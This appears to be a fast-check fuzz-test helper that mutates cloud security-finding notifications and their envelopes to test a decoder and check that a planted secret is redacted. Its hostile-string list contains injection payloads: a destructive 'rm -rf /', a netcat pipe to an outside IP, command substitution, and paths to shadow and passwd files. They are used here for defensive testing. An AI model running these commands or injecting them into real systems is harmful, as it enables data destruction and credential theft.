// Mutated SCC notifications for the fuzz tests (decoder and pipeline). A case is a plan
// fast-check generates and shrinks: which fixture, which structural mutations (drop a field,
// change a type, hostile strings, numbers as strings, arrays where objects are expected,
// extra keys such as __proto__), how the notification is serialised (JSON truncation,
// invalid UTF-8, BOM), how its base64 is corrupted, and which envelope carries it (the
// shapes decodeMessage accepts, and broken variants of them). buildInput() turns a plan
// into the exact input and decode context the code under test receives.
//
// Every fixture carries the planted secret where a real finding carries secrets: an
// environment variable value (already in the fixtures), a command-line argument
// (`--api-key=...`) and pod/container label values. Mutations replace or append to
// values, never glue word characters in front of the secret (that would make it a
// different token, which pattern-based redaction of free text does not claim to catch).
import { isUtf8 } from 'node:buffer';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { PLANTED_SECRET } from './audit-capture.js';

export { PLANTED_SECRET };

export type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Path = (string | number)[];

const FIXTURES = ['modified-malicious-binary.v1.json', 'modified-malicious-binary.v2.json', 'added-binary-executed.v1.json'] as const;

function readFixture(name: string): { [key: string]: Json } {
  return JSON.parse(readFileSync(new URL(`../fixtures/${name}`, import.meta.url), 'utf8')) as { [key: string]: Json };
}

function asRecord(v: Json | undefined): { [key: string]: Json } | undefined {
  return typeof v === 'object' && v !== null && !Array.isArray(v) ? v : undefined;
}

function asArray(v: Json | undefined): Json[] | undefined {
  return Array.isArray(v) ? v : undefined;
}

/** The fixtures with the secret planted in an argument and in label values (env already has it). */
function plantedBases(): { [key: string]: Json }[] {
  return FIXTURES.map((name) => {
    const n = readFixture(name);
    const finding = asRecord(n['finding']);
    const proc = asRecord(asArray(finding?.['processes'])?.[0]);
    const env = asArray(proc?.['envVariables']) ?? [];
    if (!JSON.stringify(env).includes(PLANTED_SECRET)) throw new Error(`fixture ${name}: expected the planted secret in envVariables`);
    asArray(proc?.['args'])?.push(`--api-key=${PLANTED_SECRET}`);
    const pod = asRecord(asArray(asRecord(finding?.['kubernetes'])?.['pods'])?.[0]);
    asArray(pod?.['labels'])?.push({ name: 'billing.acme.io/key', value: PLANTED_SECRET });
    const container = asRecord(asArray(finding?.['containers'])?.[0]);
    if (container) container['labels'] = [{ name: 'ci-token', value: PLANTED_SECRET }];
    return n;
  });
}

// Kept as text: JSON.parse makes a fresh copy faster than structuredClone.
const BASES: readonly string[] = plantedBases().map((n) => JSON.stringify(n));

// ------------------------------------------------------------------ arbitraries

/** Strings an attacker controls in a finding: shell syntax, traversal, NUL, control and exotic Unicode, sizes. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: fc.constantFrom(
    '',
    ' ',
    '\u0000',
    '/usr/bin/cu\u0000rl',
    '$(reboot)',
    '`id`',
    '; rm -rf / #',
    '| nc 203.0.113.9 4444',
    '../../../../etc/shadow',
    '/proc/1/root/../../etc/passwd',
    '..',
    '/',
    'C:\\Windows\\System32',
    '%00%2e%2e%2f',
    '\r\nX-Injected: 1',
    '\u202Egnp.exe',
    '\uD800',
    '\uDFFF\uD800',
    '\uFEFF',
    'kube-system',
    'KUBE-SYSTEM',
    'default',
    '-n',
    '--all-namespaces',
    '*',
    '**',
    '{{.Values}}',
    '${IFS}',
    "'; DROP TABLE findings; --",
    '<script>alert(1)</script>',
    'Ω≈ç√∫˜µ≤≥÷',
    '😈😈😈',
    '\u0301\u0301\u0301',
    'NaN',
    '-1',
    '1e999',
    '0x1F',
    'null',
    'true',
  ), weight: 8 },
  { arbitrary: fc.string({ maxLength: 40 }), weight: 3 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }), weight: 2 },
  { arbitrary: fc.string({ unit: 'binary', maxLength: 20 }), weight: 2 },
  // Long values, and now and then one that takes the message past the 1 MiB decode limit
  // ('😈' is 4 bytes in UTF-8). Rare: each costs milliseconds to build and decode.
  {
    arbitrary: fc
      .tuple(fc.constantFrom('A', '/', '.', '\u0000', 'é', '😈'), fc.oneof({ arbitrary: fc.integer({ min: 200, max: 5_000 }), weight: 5 }, { arbitrary: fc.integer({ min: 250_000, max: 300_000 }), weight: 1 }))
      .map(([c, n]) => c.repeat(n)),
    weight: 1,
  },
);

/** What a number (or an int64 string) can turn into. */
const numericVariant: fc.Arbitrary<Json> = fc.oneof(
  fc.constantFrom<Json>(-1, 0, 1.5, 1e21, Number.MAX_SAFE_INTEGER + 2, -0, '0', '-1', '1.5', '99999999999999999999', ' 12', '12 ', '0x10', '1e3', '', 'NaN', '+7', '٣'),
  fc.integer().map((n) => n as Json),
  fc.nat().map((n) => String(n) as Json),
);

const extraKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '', '\u0000', 'a.b', '[0]', 'k'.repeat(500), 'finding', 'category', 'name'),
  fc.string({ maxLength: 12 }),
);

const smallJson: fc.Arbitrary<Json> = fc.jsonValue({ maxDepth: 2 }) as fc.Arbitrary<Json>;

export type Mutation =
  | { kind: 'drop'; pick: number }
  | { kind: 'retype'; pick: number; value: Json }
  | { kind: 'hostile'; pick: number; value: string; append: boolean }
  | { kind: 'numeric'; pick: number; value: Json }
  | { kind: 'reshape'; pick: number; how: 'wrap-in-array' | 'array-to-object' | 'unwrap-array' | 'empty' }
  | { kind: 'extra-key'; pick: number; key: string; value: Json }
  // Semantic: remove a fact from every place a finding carries it (structured field and
  // sourceProperties fallback), which random drops rarely manage together.
  | { kind: 'forget'; what: 'pod' | 'namespace' | 'container' | 'binary' | 'node' };

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('drop' as const), pick: fc.nat() }),
  fc.record({ kind: fc.constant('retype' as const), pick: fc.nat(), value: smallJson }),
  { arbitrary: fc.record({ kind: fc.constant('hostile' as const), pick: fc.nat(), value: hostileString, append: fc.boolean() }), weight: 3 },
  fc.record({ kind: fc.constant('numeric' as const), pick: fc.nat(), value: numericVariant }),
  fc.record({ kind: fc.constant('reshape' as const), pick: fc.nat(), how: fc.constantFrom('wrap-in-array' as const, 'array-to-object' as const, 'unwrap-array' as const, 'empty' as const) }),
  fc.record({ kind: fc.constant('extra-key' as const), pick: fc.nat(), key: extraKey, value: smallJson }),
  fc.record({ kind: fc.constant('forget' as const), what: fc.constantFrom('pod' as const, 'namespace' as const, 'container' as const, 'binary' as const, 'node' as const) }),
);

/** Where each fact lives: structured paths and the sourceProperties key of the fallback. */
const FACTS: Record<Extract<Mutation, { kind: 'forget' }>['what'], { paths: Path[]; sp: string }> = {
  pod: { paths: [['finding', 'kubernetes', 'pods', 0, 'name']], sp: 'Pod_Name' },
  namespace: { paths: [['finding', 'kubernetes', 'pods', 0, 'ns']], sp: 'Pod_Namespace' },
  container: { paths: [['finding', 'containers', 0, 'name'], ['finding', 'kubernetes', 'pods', 0, 'containers', 0, 'name']], sp: 'Container_Name' },
  binary: { paths: [['finding', 'processes', 0, 'binary', 'path']], sp: 'Process_Binary_Fullpath' },
  node: { paths: [['finding', 'kubernetes', 'nodes'], ['finding', 'kubernetes', 'nodePools']], sp: 'VM_Instance_Name' },
};

export type Serialisation =
  | { kind: 'json'; indent: boolean }
  | { kind: 'truncate'; at: number }
  | { kind: 'bom' }
  | { kind: 'invalid-utf8'; at: number }
  | { kind: 'not-json'; text: string };

const serialisation: fc.Arbitrary<Serialisation> = fc.oneof(
  { arbitrary: fc.record({ kind: fc.constant('json' as const), indent: fc.boolean() }), weight: 8 },
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('bom' as const) }),
  fc.record({ kind: fc.constant('invalid-utf8' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('not-json' as const), text: fc.oneof(hostileString, fc.constantFrom('[]', 'null', '42', '"x"', '{}', '[{"finding":{}}]', '   ')) }),
);

export type Base64Damage =
  | { kind: 'none' }
  | { kind: 'bad-char'; at: number; char: string }
  | { kind: 'strip-padding' }
  | { kind: 'truncate'; drop: number }
  | { kind: 'url-alphabet' }
  | { kind: 'double' }
  | { kind: 'whitespace'; at: number };

const base64Damage: fc.Arbitrary<Base64Damage> = fc.oneof(
  { arbitrary: fc.constant({ kind: 'none' as const }), weight: 10 },
  fc.record({ kind: fc.constant('bad-char' as const), at: fc.nat(), char: fc.constantFrom('!', '*', '-', '_', ' ', '\n', '=', '\u0000', 'é') }),
  fc.constant({ kind: 'strip-padding' as const }),
  fc.record({ kind: fc.constant('truncate' as const), drop: fc.integer({ min: 1, max: 64 }) }),
  fc.constant({ kind: 'url-alphabet' as const }),
  fc.constant({ kind: 'double' as const }),
  fc.record({ kind: fc.constant('whitespace' as const), at: fc.nat() }),
);

export const ENVELOPES = [
  'structured-object',
  'structured-text',
  'structured-bytes',
  'structured-data-string',
  'structured-data-base64',
  'binary',
  'pubsub-push',
  'pubsub-message',
  'notification-object',
  'notification-text',
] as const;
export type EnvelopeShape = (typeof ENVELOPES)[number];

export type EnvelopeDamage =
  | { kind: 'none' }
  | { kind: 'wrong-type'; value: Json }
  | { kind: 'drop'; key: 'type' | 'specversion' | 'data' | 'message' | 'subscription' | 'messageId' }
  | { kind: 'retype'; key: 'messageId' | 'subscription' | 'attributes' | 'message' | 'data' | 'publishTime'; value: Json }
  | { kind: 'header-case' };

const envelopeDamage: fc.Arbitrary<EnvelopeDamage> = fc.oneof(
  { arbitrary: fc.constant({ kind: 'none' as const }), weight: 10 },
  fc.record({ kind: fc.constant('wrong-type' as const), value: fc.oneof(smallJson, fc.constantFrom<Json>('google.cloud.storage.object.v1.finalized', 'google.cloud.pubsub.topic.v1.messagePublished '.repeat(3))) }),
  fc.record({ kind: fc.constant('drop' as const), key: fc.constantFrom('type' as const, 'specversion' as const, 'data' as const, 'message' as const, 'subscription' as const, 'messageId' as const) }),
  fc.record({ kind: fc.constant('retype' as const), key: fc.constantFrom('messageId' as const, 'subscription' as const, 'attributes' as const, 'message' as const, 'data' as const, 'publishTime' as const), value: smallJson }),
  fc.constant({ kind: 'header-case' as const }),
);

export interface FuzzCase {
  base: number;
  mutations: Mutation[];
  serialisation: Serialisation;
  base64: Base64Damage;
  envelope: EnvelopeShape;
  envelopeDamage: EnvelopeDamage;
}

/** Half the cases carry no damage below the notification, so the structural mutations reach validation. */
export const fuzzCase: fc.Arbitrary<FuzzCase> = fc.record({
  base: fc.nat({ max: BASES.length - 1 }),
  mutations: fc.array(mutation, { minLength: 0, maxLength: 4 }),
  serialisation,
  base64: base64Damage,
  envelope: fc.constantFrom(...ENVELOPES),
  envelopeDamage,
});

// ------------------------------------------------------------------ applying a plan

function paths(value: Json, prefix: Path = [], out: { path: Path; value: Json }[] = []): { path: Path; value: Json }[] {
  if (Array.isArray(value)) value.forEach((v, i) => {
    out.push({ path: [...prefix, i], value: v });
    paths(v, [...prefix, i], out);
  });
  else if (value !== null && typeof value === 'object') {
    for (const [k, v] of Object.entries(value)) {
      out.push({ path: [...prefix, k], value: v });
      paths(v, [...prefix, k], out);
    }
  }
  return out;
}

function parentOf(root: Json, path: Path): Json | undefined {
  let cur: Json | undefined = root;
  for (const seg of path.slice(0, -1)) {
    if (cur === null || typeof cur !== 'object') return undefined;
    cur = Array.isArray(cur) ? cur[seg as number] : cur[seg as string];
  }
  return cur;
}

/** Sets (or, with `undefined`, deletes) the value at `path`; own property even for `__proto__`. */
function setAt(root: Json, path: Path, value: Json | undefined): void {
  const parent = parentOf(root, path);
  const key = path[path.length - 1];
  if (parent === null || parent === undefined || typeof parent !== 'object' || key === undefined) return;
  if (Array.isArray(parent)) {
    if (value === undefined) parent.splice(key as number, 1);
    else parent[key as number] = value;
    return;
  }
  if (value === undefined) delete parent[key as string];
  else Object.defineProperty(parent, key as string, { value, enumerable: true, writable: true, configurable: true });
}

function choose<T>(items: readonly T[], pick: number): T | undefined {
  return items.length === 0 ? undefined : items[pick % items.length];
}

function applyMutation(root: { [key: string]: Json }, m: Mutation): void {
  const all = paths(root);
  switch (m.kind) {
    case 'drop': {
      const t = choose(all, m.pick);
      if (t) setAt(root, t.path, undefined);
      return;
    }
    case 'retype': {
      const t = choose(all, m.pick);
      if (t) setAt(root, t.path, m.value);
      return;
    }
    case 'hostile': {
      const strings = all.filter((p) => typeof p.value === 'string');
      const t = choose(strings, m.pick);
      if (t) setAt(root, t.path, m.append ? `${t.value as string}${m.value}` : m.value);
      return;
    }
    case 'numeric': {
      const numbers = all.filter((p) => typeof p.value === 'number' || (typeof p.value === 'string' && /^\d+$/.test(p.value)));
      const t = choose(numbers.length > 0 ? numbers : all, m.pick);
      if (t) setAt(root, t.path, m.value);
      return;
    }
    case 'reshape': {
      const containers = all.filter((p) => typeof p.value === 'object' && p.value !== null);
      const t = choose(containers, m.pick);
      if (!t) return;
      const v = t.value;
      if (m.how === 'wrap-in-array') setAt(root, t.path, [v]);
      else if (m.how === 'array-to-object') setAt(root, t.path, Array.isArray(v) ? Object.fromEntries(v.map((x, i) => [String(i), x])) : v);
      else if (m.how === 'unwrap-array') setAt(root, t.path, Array.isArray(v) ? (v[0] ?? null) : v);
      else setAt(root, t.path, Array.isArray(v) ? [] : {});
      return;
    }
    case 'forget': {
      const fact = FACTS[m.what];
      for (const p of fact.paths) setAt(root, p, undefined);
      setAt(root, ['finding', 'sourceProperties', fact.sp], undefined);
      return;
    }
    case 'extra-key': {
      const objects = [{ path: [] as Path, value: root as Json }, ...all].filter((p) => typeof p.value === 'object' && p.value !== null && !Array.isArray(p.value));
      const t = choose(objects, m.pick);
      if (t) setAt(root, [...t.path, m.key], m.value);
      return;
    }
  }
}

/** The mutated notification (a fresh object per call). */
export function mutatedNotification(c: Pick<FuzzCase, 'base' | 'mutations'>): { [key: string]: Json } {
  const root = JSON.parse(BASES[c.base % BASES.length] as string) as { [key: string]: Json };
  for (const m of c.mutations) applyMutation(root, m);
  return root;
}

function serialise(n: Json, s: Serialisation): Buffer {
  const text = JSON.stringify(n, null, s.kind === 'json' && s.indent ? 2 : undefined);
  switch (s.kind) {
    case 'json':
      return Buffer.from(text);
    case 'truncate':
      return Buffer.from(text.slice(0, s.at % Math.max(1, text.length)));
    case 'bom':
      return Buffer.from(`\uFEFF${text}`);
    case 'invalid-utf8': {
      const b = Buffer.from(text);
      const at = s.at % Math.max(1, b.length);
      return Buffer.concat([b.subarray(0, at), Buffer.from([0xff, 0xc3]), b.subarray(at)]);
    }
    case 'not-json':
      return Buffer.from(s.text);
  }
}

function damageBase64(b64: string, d: Base64Damage, bytes: Buffer): string {
  switch (d.kind) {
    case 'none':
      return b64;
    case 'bad-char': {
      const at = d.at % Math.max(1, b64.length);
      return `${b64.slice(0, at)}${d.char}${b64.slice(at + 1)}`;
    }
    case 'strip-padding':
      return b64.replace(/=+$/, '');
    case 'truncate':
      return b64.slice(0, Math.max(0, b64.length - d.drop));
    case 'url-alphabet':
      return bytes.toString('base64url');
    case 'double':
      return Buffer.from(b64).toString('base64');
    case 'whitespace': {
      const at = d.at % Math.max(1, b64.length);
      return `${b64.slice(0, at)}\n${b64.slice(at)}`;
    }
  }
}

export interface FuzzInput {
  input: unknown;
  headers?: Record<string, string>;
}

const CE_TYPE = 'google.cloud.pubsub.topic.v1.messagePublished';

function damageEnvelope(obj: { [key: string]: Json }, d: EnvelopeDamage): void {
  const message = asRecord(obj['message']) ?? asRecord(asRecord(obj['data'])?.['message']) ?? obj;
  switch (d.kind) {
    case 'none':
    case 'header-case':
      return;
    case 'wrong-type':
      if ('type' in obj) obj['type'] = d.value;
      return;
    case 'drop':
      if (d.key in obj) delete obj[d.key];
      else if (d.key in message) delete message[d.key];
      return;
    case 'retype':
      if (d.key in message && d.key !== 'message') message[d.key] = d.value;
      else if (d.key in obj) obj[d.key] = d.value;
      return;
  }
}

/** The input (and decode context) a plan describes. */
export function buildInput(c: FuzzCase): FuzzInput {
  const notification = mutatedNotification(c);
  const bytes = serialise(notification, c.serialisation);
  const b64 = damageBase64(bytes.toString('base64'), c.base64, bytes);
  const id = `fuzz-${c.base}`;
  const message: { [key: string]: Json } = { data: b64, attributes: {}, messageId: id, message_id: id, publishTime: '2026-11-27T09:14:07.201Z' };
  const push: { [key: string]: Json } = { message, subscription: 'projects/acme-security/subscriptions/fuzz' };
  const structured = (data: Json): { [key: string]: Json } => ({
    specversion: '1.0',
    type: CE_TYPE,
    source: '//pubsub.googleapis.com/projects/acme-security/topics/scc-findings',
    id,
    time: '2026-11-27T09:14:07.201Z',
    datacontenttype: 'application/json',
    data,
  });
  switch (c.envelope) {
    case 'structured-object':
    case 'structured-text':
    case 'structured-bytes': {
      const ce = structured(push);
      damageEnvelope(ce, c.envelopeDamage);
      if (c.envelope === 'structured-object') return { input: ce };
      const text = JSON.stringify(ce);
      return { input: c.envelope === 'structured-text' ? text : Buffer.from(text) };
    }
    case 'structured-data-string': {
      const ce = structured(JSON.stringify(push));
      damageEnvelope(ce, c.envelopeDamage);
      return { input: ce };
    }
    case 'structured-data-base64': {
      const ce = structured(null);
      delete ce['data'];
      ce['data_base64'] = Buffer.from(JSON.stringify(push)).toString('base64');
      damageEnvelope(ce, c.envelopeDamage);
      return { input: ce };
    }
    case 'binary': {
      damageEnvelope(push, c.envelopeDamage);
      const upper = c.envelopeDamage.kind === 'header-case';
      const type = c.envelopeDamage.kind === 'wrong-type' ? (typeof c.envelopeDamage.value === 'string' ? c.envelopeDamage.value : '') : CE_TYPE;
      const headers: Record<string, string> = upper
        ? { 'CE-SPECVERSION': '1.0', 'Ce-Type': type, 'CE-ID': id }
        : { 'ce-specversion': '1.0', 'ce-type': type, 'ce-id': id, 'ce-time': '2026-11-27T09:14:07.201Z' };
      if (c.envelopeDamage.kind === 'drop' && c.envelopeDamage.key === 'type') delete headers['ce-type'];
      return { input: push, headers };
    }
    case 'pubsub-push':
      damageEnvelope(push, c.envelopeDamage);
      return { input: push };
    case 'pubsub-message':
      damageEnvelope(message, c.envelopeDamage);
      return { input: message };
    case 'notification-object':
      // The serialisation damage applies to text only; the object is the mutated notification.
      return { input: notification };
    case 'notification-text':
      return { input: isUtf8(bytes) ? bytes.toString('utf8') : bytes };
  }
}

/** Every string inside a value (keys included), for leak checks that must not miss nested data. */
export function containsSecret(value: unknown): boolean {
  if (value === undefined) return false;
  let text: string;
  try {
    text = JSON.stringify(value) ?? '';
  } catch {
    text = String(value);
  }
  return text.includes(PLANTED_SECRET);
}
